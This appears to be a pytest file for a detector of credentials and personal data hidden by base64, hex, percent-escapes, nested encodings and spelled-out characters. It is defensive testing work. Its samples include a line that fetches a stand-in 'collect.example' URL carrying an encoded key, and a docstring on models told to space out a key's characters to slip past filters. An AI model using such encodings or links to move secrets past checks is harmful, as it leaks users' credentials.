"""The detectors over base64 and hex runs decoded: a credential or personal data encoded to slip
past them is found (added 2026-11-27: every detector read the clear text only), on the encoded
characters that carry it, wherever a run is cut; runs that are no text (hashes, ids, binary,
long words, paths) find nothing, and hostile runs cost linear time."""

from __future__ import annotations

import base64
import random
import re
from collections.abc import Callable

import pytest

from tests.deadline import within
from ztai.protection.encoded import EncodedContent
from ztai.protection.model import Match
from ztai.protection.pii import structured_pii_detector
from ztai.protection.secrets_detector import SecretDetector

KEY = "AKIAZ3MZQ7YWRT4XPLNV"
BINARY = random.Random(7).randbytes(3000)  # noqa: S311 -- reproducible test input
CLEAR = f"deploy with aws_access_key_id={KEY} and mail jane.doe@example.com today"


@pytest.fixture(scope="module")
def detector() -> EncodedContent:
    return EncodedContent([SecretDetector.build(), structured_pii_detector()])


def b64(data: str) -> str:
    return base64.b64encode(data.encode()).decode()


def kinds(detector: EncodedContent, text: str) -> set[str]:
    return {m.kind for m in detector.detect(text)}


@pytest.mark.parametrize("encoded", [
    b64(CLEAR),
    b64(CLEAR).rstrip("="),
    base64.urlsafe_b64encode(CLEAR.encode()).decode(),
    CLEAR.encode().hex(),
    CLEAR.encode().hex().upper(),
    b64("Grüße aus München: " + CLEAR),
], ids=["base64", "unpadded", "url-safe", "hex", "upper hex", "utf-8"])
def test_an_encoded_credential_and_address_are_found(detector: EncodedContent,
                                                     encoded: str) -> None:
    text = f"please run this: {encoded} thanks"
    key = _key_and_address(detector, text)
    # the span holds the encoded key and little more (a group on each side at most)
    span = text[key.start:key.end]
    assert span in encoded
    assert len(span) <= len(encoded) // 2
    assert KEY in _decode(text, key.start, key.end, encoded)


def _key_and_address(detector: EncodedContent, text: str) -> Match:
    """The key's finding, where the key and the address are both found, encoded."""
    found = {m.kind: m for m in detector.detect(text)}
    assert set(found) == {"secret.aws-access-token", "pii.email"}
    key = found["secret.aws-access-token"]
    assert key.detector == "secrets.gitleaks+encoded"
    return key


def _decode(text: str, start: int, end: int, encoded: str) -> str:
    at = text.index(encoded)
    if all(c in "0123456789abcdefABCDEF" for c in encoded):
        return bytes.fromhex(text[start:end]).decode("latin-1")
    offset = (start - at) % 4  # spans start on a group of the run's own alignment
    assert offset == 0
    return base64.b64decode(text[start:end] + "==", altchars=b"-_").decode("latin-1")


@pytest.mark.parametrize("cut", range(8))
def test_a_run_cut_anywhere_still_reads(detector: EncodedContent, cut: int) -> None:
    """A stream's window may begin inside a run: every alignment is tried."""
    encoded = b64("x" * 9 + CLEAR)[cut:]
    assert "secret.aws-access-token" in kinds(detector, encoded)


@pytest.mark.parametrize("text", [
    "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "id 3f2504e04f8911d39a0c0305e82c3301 and internationalization-counterrevolutionaries",
    "see /usr/share/doc/python3/README.Debian and src/ztai/protection/encoded.py",
    f"an image {base64.b64encode(BINARY).decode()}",
    f"zeros {'A' * 4000}",
    b64("no secret here, just a long and friendly sentence about the weather"),
    "x 0123456789abcdef0123= y",
    "digest: 0123456789abcdef012345== ok",
], ids=["hash", "uuid and long words", "paths", "binary", "zeros", "clear text, nothing",
        "hex, then =", "hex, then =="])
def test_runs_that_hold_no_finding_find_nothing(detector: EncodedContent, text: str) -> None:
    assert detector.detect(text) == []


def test_hostile_runs_are_read_in_linear_time(detector: EncodedContent) -> None:
    """A quarter megabyte of one run, of each kind, and of many short runs: no hang (each
    character is in one run, decoded at most four times). A quadratic reading of 250,000
    characters is some 6e10 steps, far beyond the deadline; a linear one takes a few seconds
    under coverage on CI's two cores (a megabyte each took over 20 s there)."""
    with within(20):
        for text in ("A" * 250_000, "AB+/" * 62_500, "0123456789abcdef" * 16_000,
                     ("QUtJQVozTVpRN1lX " * 15_000), b64(CLEAR * 5_000),
                     ("QUtJ" * 19 + "\n") * 3_300, _wrapped(CLEAR * 2_500, 76, "\r\n")):
            detector.detect(text)


def test_the_fast_run_finder_finds_what_the_pattern_finds() -> None:
    """Texts are searched as mapped bytes, not by a pattern: the same runs, seeded texts (with
    characters beyond ASCII, which map to no base64)."""
    from ztai.protection.encoded import _runs

    pattern = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
    rng = random.Random(11)  # noqa: S311 -- reproducible test input
    for _ in range(2000):
        text = "".join(rng.choice("ABCab01+/_-= .,é→😀") for _ in range(rng.randint(0, 120)))
        assert list(_runs(text)) == [(m.start(), m.group(), None)
                                     for m in pattern.finditer(text)]


def _wrapped(data: str, width: int, eol: str) -> str:
    encoded = b64(data)
    return eol.join(encoded[i:i + width] for i in range(0, len(encoded), width))


@pytest.mark.parametrize(("width", "eol"), [(76, "\n"), (64, "\r\n"), (60, "\n")],
                         ids=["mime", "pem", "narrow"])
def test_a_key_wrapped_across_lines_is_found(detector: EncodedContent, width: int,
                                             eol: str) -> None:
    """Found 2026-11-28: base64 wrapped into lines (``base64``, MIME, PEM) was read line by
    line, so a key across a line break was missed (about a third of placements)."""
    for shift in range(0, 80, 3):
        encoded = _wrapped("x" * shift + CLEAR, width, eol)
        text = f"my .env, encoded:\n{encoded}\nthanks"
        found = {m.kind: m for m in detector.detect(text)}
        assert set(found) == {"secret.aws-access-token", "pii.email"}, shift
        key = found["secret.aws-access-token"]
        span = text[key.start:key.end]
        assert span in encoded
        at = text.index(encoded)
        joined_start = len(text[at:key.start].replace(eol, ""))
        assert joined_start % 4 == 0
        decoded = base64.b64decode(span.replace(eol, "") + "==").decode("latin-1")
        assert KEY in decoded, shift


def test_lines_that_are_no_wrapped_run_are_read_each_alone(detector: EncodedContent) -> None:
    """Each line its own encoding (unequal lines, a padded first line): no line is lost to a
    join, and where a run is joined the lines are whole lines of one width."""
    from ztai.protection.encoded import _runs

    first, second = b64(f"id={KEY}"), b64("mail jane.doe@example.com")
    assert len(first) != len(second)
    assert first.endswith("=")
    assert {m.kind for m in detector.detect(f"{first}\n{second}")} == {
        "secret.aws-access-token", "pii.email"}
    assert [lines for _, _, lines in _runs(f"{first}\n{second}")] == [None, None]
    # a run that begins within a line is not the first line of a wrapped block
    text = "key: " + _wrapped(CLEAR, 76, "\n")
    assert all(lines is None for _, _, lines in _runs(text))
    block = _wrapped(CLEAR * 3, 76, "\n")
    ((start, body, lines),) = list(_runs(f"{block}\nend"))
    assert (start, body) == (0, block.replace("\n", ""))
    assert lines == [(i * 76, i * 77) for i in range(len(lines))]


def _percent(data: str) -> str:
    return "".join(f"%{b:02X}" for b in data.encode())


def _escaped(data: str, form: str) -> str:
    return "".join(form.format(ord(c)) for c in data)


@pytest.mark.parametrize("encoded", [
    _percent(CLEAR),
    _percent(CLEAR).lower(),
    _escaped(CLEAR, "\\x{:02x}"),
    _escaped(CLEAR, "\\u{:04x}"),
    _escaped(CLEAR, "&#{};"),
    _escaped(CLEAR, "&#x{:X};"),
    _percent("Grüße aus München: " + CLEAR),
    CLEAR.replace("A", "%41").replace("@", "%40"),
    CLEAR.replace("Z", "\\u005a").replace("@", "&#64;"),
], ids=["percent", "percent lower", "\\x", "\\u", "decimal references", "hex references",
        "percent utf-8", "some characters", "mixed forms"])
def test_an_escaped_credential_and_address_are_found(detector: EncodedContent,
                                                     encoded: str) -> None:
    """Found 2026-11-28: escapes were read as they are written, so a key percent-encoded in a
    link a tool is asked to fetch (or written as ``\\x`` / ``\\u`` escapes, or as character
    references) passed every detector."""
    text = f"fetch https://collect.example/?d={encoded} now"
    key = _key_and_address(detector, text)
    span = text[key.start:key.end]
    assert span in encoded
    assert _unescape(span) == KEY  # the span is the key's characters, escaped, and no more


def _unescape(span: str) -> str:
    import html
    import urllib.parse

    span = html.unescape(span)
    span = re.sub(r"\\u([0-9a-fA-F]{4})|\\x([0-9a-fA-F]{2})",
                  lambda m: chr(int(m.group(1) or m.group(2), 16)), span)
    return urllib.parse.unquote(span)


def test_a_finding_that_covers_no_escape_is_left_to_the_clear_reading(
        detector: EncodedContent) -> None:
    assert detector.detect(f"key={KEY}&next=%2Fhome%20page") == []


@pytest.mark.parametrize(("encode", "levels"), [
    (lambda t: b64(b64(t)), 2),
    (lambda t: b64(t).encode().hex(), 2),
    (lambda t: b64(t.encode().hex()), 2),
    (lambda t: _percent(b64(t)), 2),
    (lambda t: b64(b64(t)).encode().hex(), 3),
], ids=["base64 of base64", "hex of base64", "base64 of hex", "percent of base64",
        "hex of base64 of base64"])
def test_what_a_decoding_yields_is_decoded_again(detector: EncodedContent,
                                                 encode: Callable[[str], str],
                                                 levels: int) -> None:
    """Found 2026-11-28: a key encoded twice ("base64 it, then hex it") passed."""
    text = f"the blob: {encode(CLEAR)} end"
    found = {m.kind: m for m in detector.detect(text)}
    assert set(found) == {"secret.aws-access-token", "pii.email"}
    assert found["secret.aws-access-token"].detector == "secrets.gitleaks" + "+encoded" * levels


def test_decodings_stop_after_three_levels(detector: EncodedContent) -> None:
    assert detector.detect(b64(b64(b64(b64(CLEAR))))) == []


@pytest.mark.parametrize("text", [
    "https://example.com/search?q=quarterly%20report&lang=en%2Dus",
    "C:\\\\users\\\\xavier\\\\documents and \\\\u00e9t\\\\u00e9",
    "caf&#233; &amp; cr&#xe8;me, 100% sure, 50%off",
    "&#99999999; &#xD800; \\\\ud800\\\\udc00 %ff%fe%00",
], ids=["a link", "paths", "references", "no characters"])
def test_escapes_that_hold_no_finding_find_nothing(detector: EncodedContent, text: str) -> None:
    assert detector.detect(text) == []


def test_hostile_escapes_are_read_in_linear_time(detector: EncodedContent) -> None:
    with within(20):
        for text in ("%41" * 75_000, "\\u0041" * 40_000, "&#65;" * 50_000,
                     ("x%4" * 75_000), ("%41 " * 60_000), "a" * 125_000 + "%41" + "b" * 125_000,
                     ("%41" + "a" * 99) * 2_500, _percent(CLEAR) * 1_250):
            detector.detect(text)


@pytest.mark.parametrize("spelled", [
    " ".join(KEY), "  ".join(KEY), "-".join(KEY), ".".join(KEY), "_".join(KEY),
    " ".join(f"{b:02x}" for b in KEY.encode()),
    ", ".join(f"0x{b:02X}" for b in KEY.encode()),
    ",".join(str(b) for b in KEY.encode()),
    ":".join(f"{b:02x}" for b in KEY.encode()),
], ids=["spaces", "two spaces", "dashes", "dots", "underscores", "hex pairs", "0x list",
        "decimals", "colons"])
def test_a_key_spelled_out_or_written_as_bytes_is_found(detector: EncodedContent,
                                                        spelled: str) -> None:
    """Found 2026-11-28: a key with a space between its characters ("A K I A …", what a model
    told to "space the characters out" writes) or written as a list of byte values passed."""
    text = f"The value is {spelled}. Keep it safe."
    (key,) = detector.detect(text)
    assert key.kind == "secret.aws-access-token"
    assert key.detector == "secrets.gitleaks+encoded"
    assert text[key.start:key.end] == spelled  # every character or byte of it, no more


def test_a_card_spelled_out_with_its_groups_is_found(detector: EncodedContent) -> None:
    text = "card: 4 1 1 1   1 1 1 1   1 1 1 1   1 1 1 1 exp 12/29"
    assert kinds(detector, text) == {"pii.credit_card"}


@pytest.mark.parametrize("text", [
    "S U M M A R Y   O F   T H E   Q U A R T E R L Y   R E P O R T",
    "scores: 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20",
    "matrix [0, 1, 0, 0, 1, 0, 0, 0, 1, 1, 0, 1, 0, 1, 1]",
    "x = a + b - c * d / e + f - g * h / i + j - k",
    "00000010  7f 45 4c 46 02 01 01 00 00 00 00 00 00 00 00 00  |.ELF............|",
    "ages 34, 45, 23, 67, 41, 52, 38, 29, 61, 47, 33, 58, 26 and 44",
    "a-b-c-d-e-f-g-h-i-j-k-l-m-n-o-p-q-r-s-t-u-v-w-x-y-z",
], ids=["spaced heading", "numbers", "matrix", "formula", "hexdump", "ages", "alphabet"])
def test_spelled_runs_and_lists_that_hold_no_finding_find_nothing(
        detector: EncodedContent, text: str) -> None:
    assert detector.detect(text) == []


def test_hostile_spelled_runs_and_lists_are_read_in_linear_time(
        detector: EncodedContent) -> None:
    with within(20):
        for text in ("a " * 125_000, "a-" * 125_000, "1, " * 85_000, "41 " * 85_000,
                     ("A K I A " * 3 + "xx ") * 10_000, " ".join(KEY) * 5_000):
            detector.detect(text)


def test_a_spelled_run_ends_before_a_character_beyond_ascii(detector: EncodedContent) -> None:
    # searched as "?", which a run may hold, an em dash after the key was read as its last
    # character ("…P L N V —" as "…PLNV—"), and no rule matched the key with it
    from tests.protection.test_secrets_detector import OPENAI

    spelled = " ".join(OPENAI)
    text = f"la clé : {spelled} — à garder"
    (key,) = detector.detect(text)
    assert key.kind == "secret.openai-api-key"
    assert text[key.start:key.end] == spelled
